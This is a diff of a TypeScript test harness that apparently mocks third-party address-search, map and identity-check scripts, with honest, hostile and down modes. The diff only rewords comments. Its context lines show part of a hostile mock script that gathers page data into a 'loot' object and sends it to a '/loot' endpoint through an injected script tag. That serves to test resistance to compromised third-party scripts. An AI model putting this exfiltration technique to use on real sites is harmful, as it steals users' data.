@@ -1,7 +1,7 @@
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 
-/** What the chosen address is in every answer of the honest service. */
+/** The chosen address in every response of the honest service. */
 const CHOICE = {
   zonecode: '04595',
   roadAddress: '서울특별시 중구 한빛로 27',
@@ -10,7 +10,7 @@ const CHOICE = {
   buildingName: '한빛외식회관',
 };
 
-/** Like the real one: the script frames its search, which answers only to the origin that the script has named. */
+/** Like the real one: the script frames its search, which only responds to the origin that the script has named. */
 const honest = `
   const base = new URL(document.currentScript.src).origin;
   window.kakao = {
@@ -35,7 +35,7 @@ const search = `<!doctype html><html lang="ko"><meta charset="utf-8"><title>검�
     document.querySelector('button').onclick = () => parent.postMessage(${JSON.stringify(CHOICE)}, origin);
   </script></html>`;
 
-/** Takes what it can get, says what it got, and does not start. */
+/** Tries to read everything, reports the results, and does not start. */
 const hostile = `
   const base = new URL(document.currentScript.src).origin;
   const loot = {};
@@ -57,7 +57,7 @@ const hostile = `
   send.src = base + '/loot?' + encodeURIComponent(JSON.stringify(loot));
   document.head.append(send);`;
 
-/** Like the real one: started by the page, it asks its own server where an address is. */
+/** Like the real one: started by the page, it queries its own server for the position of an address. */
 const map = `
   const base = new URL(document.currentScript.src).origin;
   const nothing = class {};
@@ -88,7 +88,7 @@ const map = `
     },
   };`;
 
-/** Like the real one: it begins the check at its own server, and leads the browser back. */
+/** Like the real one: it begins the check on its own server, and redirects the browser back. */
 const identity = `
   const base = new URL(document.currentScript.src).origin;
   window.PortOne = {
@@ -99,7 +99,7 @@ const identity = `
     },
   };`;
 
-/** What the page of services asks the identity service for. */
+/** Request of the services page to the identity service. */
 export interface IdentityRequest {
   storeId: string;
   channelKey: string;
@@ -107,16 +107,16 @@ export interface IdentityRequest {
   customData: string;
 }
 
-/** The services of third parties, on a socket of their own. */
+/** Starts the third-party services on a separate socket. */
 export async function startServices() {
   const service = {
     behaviour: 'honest' as 'honest' | 'hostile' | 'down',
     loot: [] as Record<string, string>[],
-    /** With what the script of the map was asked for. */
+    /** Requests for the map's script. */
     mapRequests: [] as { key: string | null; referer: string | undefined }[],
-    /** The addresses that were looked for. */
+    /** Requested addresses. */
     addresses: [] as (string | null)[],
-    /** Carries a check out. */
+    /** Carries out a check. */
     identify: (_request: IdentityRequest): void => undefined,
   };
   const server = createServer((request, response) => {
